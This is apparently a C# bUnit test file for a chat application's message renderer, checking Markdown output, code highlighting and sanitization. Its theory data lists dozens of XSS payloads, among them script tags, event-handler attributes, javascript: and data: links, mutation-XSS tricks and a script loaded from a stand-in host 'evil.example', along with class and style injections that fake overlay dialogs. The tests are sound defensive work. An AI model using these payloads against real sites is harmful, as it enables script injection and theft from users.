using AngleSharp.Dom;
using Bunit;
using Microsoft.Extensions.DependencyInjection;
using MrPrompt.Domain.Chat;
using MrPrompt.Tests.Support;
using MrPrompt.Web.Components.Pages.Chat;
using MrPrompt.Web.Rendering;

namespace MrPrompt.Tests.Components;

/// <summary>Model output rendered as Markdown, and never as anything that runs.</summary>
public sealed class MessageRenderingTests : IAsyncDisposable
{
    private readonly BunitContext _context = MudComponents.CreateContext();

    public MessageRenderingTests() => _context.Services.AddSingleton<MarkdownRenderer>();

    private IRenderedComponent<MessageView> RenderAnswer(string content) =>
        _context.Render<MessageView>(p => p.Add(m => m.Message, new Message
        {
            Id = Guid.NewGuid(),
            Sender = MessageSender.Assistant,
            Content = content,
            Status = MessageStatus.Complete,
            Provider = "openai",
            Model = "gpt-4o-mini",
            InputTokens = 22,
            OutputTokens = 712,
            LatencyMs = 1234,
            CostUsd = 0.000431m,
        }));

    [Fact]
    public void Markdown_renders_tables_task_lists_emphasis_and_links()
    {
        var view = RenderAnswer("""
            # Plan
            **bold** and _soft_ and ~~gone~~

            | a | b |
            |---|--:|
            | 1 | 2 |

            - [x] done
            - [ ] todo

            See https://example.com/docs and [the site](https://example.org).
            """);

        Assert.Equal("Plan", view.Find(".mrp-markdown h1").TextContent);
        Assert.Equal("bold", view.Find(".mrp-markdown strong").TextContent);
        Assert.Equal("gone", view.Find(".mrp-markdown del").TextContent);
        Assert.Equal(2, view.FindAll(".mrp-markdown td").Count);
        var boxes = view.FindAll(".mrp-markdown input[type=checkbox]");
        Assert.Equal(2, boxes.Count);
        Assert.True(boxes[0].HasAttribute("checked"));
        Assert.False(boxes[1].HasAttribute("checked"));
        var links = view.FindAll(".mrp-markdown a");
        Assert.Equal(["https://example.com/docs", "https://example.org/"], links.Select(a => new Uri(a.GetAttribute("href")!).AbsoluteUri));
        Assert.All(links, a => Assert.Equal("noopener noreferrer nofollow", a.GetAttribute("rel")));
        Assert.All(links, a => Assert.Equal("_blank", a.GetAttribute("target")));
    }

    [Fact]
    public void Fenced_code_is_highlighted_escaped_and_gets_a_copy_button()
    {
        var view = RenderAnswer("""
            ```csharp
            var html = "<script>alert(1)</script>"; // comment
            ```
            """);

        var block = view.Find(".mrp-code");
        Assert.Equal("csharp", block.QuerySelector(".mrp-code-lang")!.TextContent);
        Assert.Equal("Copy", block.QuerySelector("button.mrp-code-copy")!.TextContent);
        Assert.NotNull(block.QuerySelector("pre code span.keyword"));
        Assert.NotNull(block.QuerySelector("pre code span.comment"));
        Assert.Contains("<script>alert(1)</script>", block.QuerySelector("pre")!.TextContent);
        Assert.Empty(view.FindAll("script"));
    }

    [Fact]
    public void Code_in_an_unknown_language_is_shown_as_plain_escaped_text()
    {
        var view = RenderAnswer("```brainfudge\n<b>++[>+<-]</b>\n```");

        Assert.Equal("<b>++[>+<-]</b>", view.Find(".mrp-code pre").TextContent.Trim());
        Assert.Empty(view.FindAll(".mrp-code pre b"));
    }

    [Fact]
    public void An_answer_shows_its_tokens_latency_and_cost()
    {
        var meta = RenderAnswer("Hi").Find("[data-testid=message-meta]").TextContent;

        Assert.Contains("openai/gpt-4o-mini", meta);
        Assert.Contains("22 in · 712 out", meta);
        Assert.Contains("1.23 s", meta);
        Assert.Contains("$0.000431", meta);
    }

    public static TheoryData<string> XssPayloads() =>
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<body onload=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](javascript&#58;alert(1))",
        "[click](  javascript:alert(1)  )",
        "[click](vbscript:msgbox(1))",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![x](javascript:alert(1))",
        "![x](https://example.com/a.png\"onerror=\"alert(1))",
        "<a href=\"#\" onclick=\"alert(1)\">x</a>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<form action=\"javascript:alert(1)\"><button>go</button></form>",
        "<input onfocus=alert(1) autofocus>",
        "<details open ontoggle=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=javascript:alert(1)>",
        "<base href=\"javascript:alert(1)//\">",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>alert(1)//<</script>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<marquee onstart=alert(1)>x</marquee>",
        "[a](https://ok.example \"title\" onmouseover=alert(1))",
        "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
        "`<script>alert(1)</script>` and ```\n<script>alert(2)</script>\n```",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        "- [ ] <span onclick=alert(1)>task</span>",
        "<textarea><script>alert(1)</script></textarea>",
        "<template><script>alert(1)</script></template>",
    ];

    [Theory]
    [MemberData(nameof(XssPayloads))]
    public void Model_output_never_yields_script_handlers_or_javascript_links(string payload)
    {
        var view = RenderAnswer(payload);

        var elements = view.Find("[data-testid=message-text]").QuerySelectorAll("*");
        Assert.DoesNotContain(elements, e => e.LocalName is "script" or "iframe" or "object" or "embed" or "form" or "svg" or "math"
            or "meta" or "link" or "base" or "style" or "img" or "video" or "template" or "textarea");
        foreach (var element in elements)
        {
            Assert.DoesNotContain(element.Attributes, a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase));
            foreach (var attribute in element.Attributes.Where(a => a.Name is "href" or "src" or "action" or "style" or "formaction"))
            {
                var value = new string(attribute.Value.Where(c => !char.IsWhiteSpace(c) && !char.IsControl(c)).ToArray());
                Assert.DoesNotContain("javascript:", value, StringComparison.OrdinalIgnoreCase);
                Assert.DoesNotContain("vbscript:", value, StringComparison.OrdinalIgnoreCase);
                Assert.DoesNotContain("data:", value, StringComparison.OrdinalIgnoreCase);
            }
        }
    }

    /// <summary>Classes and styles any element may carry after rendering: only those the renderer writes.</summary>
    private static readonly HashSet<string> RendererClasses =
        ["mrp-code", "mrp-code-bar", "mrp-code-lang", "mrp-code-copy", "mrp-plain", "contains-task-list", "task-list-item", "task-list-item-checkbox"];

    [Theory]
    [InlineData("# Urgent {.mud-overlay .mud-overlay-dark}\n\nparagraph {.mud-dialog style=\"position:fixed\"}")]
    [InlineData("<div class=\"mud-overlay\" style=\"position:fixed;inset:0\">fake dialog</div>")]
    [InlineData("- [x] done {.mud-snackbar}\n\n| a |\n|:-:|\n| b |")]
    [InlineData("```csharp\nvar x = 1;\n```\n\n`code`{.mud-overlay}")]
    public void Model_output_cannot_choose_classes_or_styles(string payload)
    {
        var elements = RenderAnswer(payload).Find(".mrp-markdown").QuerySelectorAll("*"); // inside the component's own wrapper

        foreach (var element in elements)
        {
            var highlighted = element.LocalName == "span" && element.Closest(".mrp-code pre") is not null;
            Assert.All(element.ClassList, c => Assert.True(RendererClasses.Contains(c) || (highlighted && c.All(char.IsAsciiLetter)), $"class {c} on {element.LocalName}"));
            if (element.GetAttribute("style") is { } style)
            {
                Assert.True(element.LocalName is "th" or "td", $"style on {element.LocalName}");
                Assert.Matches("^text-align: (left|center|right);?$", style);
            }
        }
    }

    [Fact]
    public void The_sanitizer_itself_drops_every_class_and_style_the_renderer_did_not_write()
    {
        var sanitizer = SafeMarkup.CreateSanitizer();

        var html = sanitizer.Sanitize("""<div class="mud-overlay mrp-code" style="position:fixed"><p class="mud-dialog" style="text-align:center">x</p></div><table><tr><td style="text-align:right">1</td></tr></table>""");

        Assert.Equal("""<div class="mrp-code"><p>x</p></div><table><tbody><tr><td style="text-align: right">1</td></tr></tbody></table>""", html);
    }

    [Fact]
    public void Pathologically_nested_output_is_shown_as_plain_text_instead_of_breaking_the_page()
    {
        var nested = new string('>', 400) + " deep <script>alert(1)</script>";

        var view = RenderAnswer(nested);

        Assert.Contains("deep <script>alert(1)</script>", view.Find(".mrp-markdown pre").TextContent);
        Assert.Empty(view.FindAll("script"));
    }

    [Fact]
    public async Task Concurrent_renders_never_mix_one_answers_code_into_another()
    {
        var renderer = new MarkdownRenderer();

        var outputs = await Task.WhenAll(Enumerable.Range(0, 64).Select(i => Task.Run(() =>
            (Index: i, Html: renderer.ToHtml($"```csharp\nvar answer{i} = {i};\n// only {i}\n```")))));

        foreach (var (index, html) in outputs)
        {
            Assert.Contains($"answer{index}", html);
            Assert.DoesNotContain($"answer{(index + 1) % 64} ", html);
            Assert.Single(System.Text.RegularExpressions.Regex.Matches(html, "var</span> answer"));
        }
    }

    [Fact]
    public void A_markdown_image_becomes_a_link_and_is_never_loaded()
    {
        var view = RenderAnswer("![chart](https://tracker.example/pixel.png?q=secret)");

        Assert.Empty(view.FindAll("img"));
        var link = view.Find(".mrp-markdown a");
        Assert.Equal("https://tracker.example/pixel.png?q=secret", link.GetAttribute("href"));
        Assert.Contains("chart", link.TextContent);
    }

    [Fact]
    public void User_messages_are_plain_text_even_when_they_look_like_markup()
    {
        var view = _context.Render<MessageView>(p => p.Add(m => m.Message, new Message
        {
            Sender = MessageSender.User,
            Content = "**not bold** <b>nor this</b>",
            Status = MessageStatus.Complete,
        }));

        Assert.Equal("**not bold** <b>nor this</b>", view.Find("[data-testid=message-text]").TextContent);
        Assert.Empty(view.FindAll("[data-testid=message-text] b, [data-testid=message-text] strong"));
    }

    [Fact]
    public void A_failed_last_answer_shows_the_error_with_a_retry_that_regenerates()
    {
        var retried = 0;
        var view = _context.Render<MessageView>(p => p
            .Add(m => m.Message, new Message
            {
                Sender = MessageSender.Assistant,
                Status = MessageStatus.Failed,
                ErrorMessage = "OpenAI rejected the API key. Check or replace it in Settings → Provider keys.",
            })
            .Add(m => m.IsLast, true)
            .Add(m => m.OnRegenerate, () => retried++));

        Assert.Contains("rejected the API key", view.Find("[data-testid=message-error]").TextContent);
        view.Find("[data-testid=retry]").Click();
        Assert.Equal(1, retried);
    }

    [Fact]
    public void Only_the_last_finished_answer_offers_regenerate_and_nothing_changes_while_busy()
    {
        Message Answer() => new() { Sender = MessageSender.Assistant, Status = MessageStatus.Complete, Content = "x" };
        Message Question() => new() { Sender = MessageSender.User, Status = MessageStatus.Complete, Content = "q" };

        Assert.NotEmpty(_context.Render<MessageView>(p => p.Add(m => m.Message, Answer()).Add(m => m.IsLast, true)).FindAll("[data-testid=regenerate]"));
        Assert.Empty(_context.Render<MessageView>(p => p.Add(m => m.Message, Answer()).Add(m => m.IsLast, false)).FindAll("[data-testid=regenerate]"));
        Assert.NotEmpty(_context.Render<MessageView>(p => p.Add(m => m.Message, Question())).FindAll("[data-testid=edit]"));
        Assert.Empty(_context.Render<MessageView>(p => p.Add(m => m.Message, Question()).Add(m => m.Busy, true)).FindAll("[data-testid=edit]"));
    }

    public async ValueTask DisposeAsync() => await _context.DisposeAsync();
}
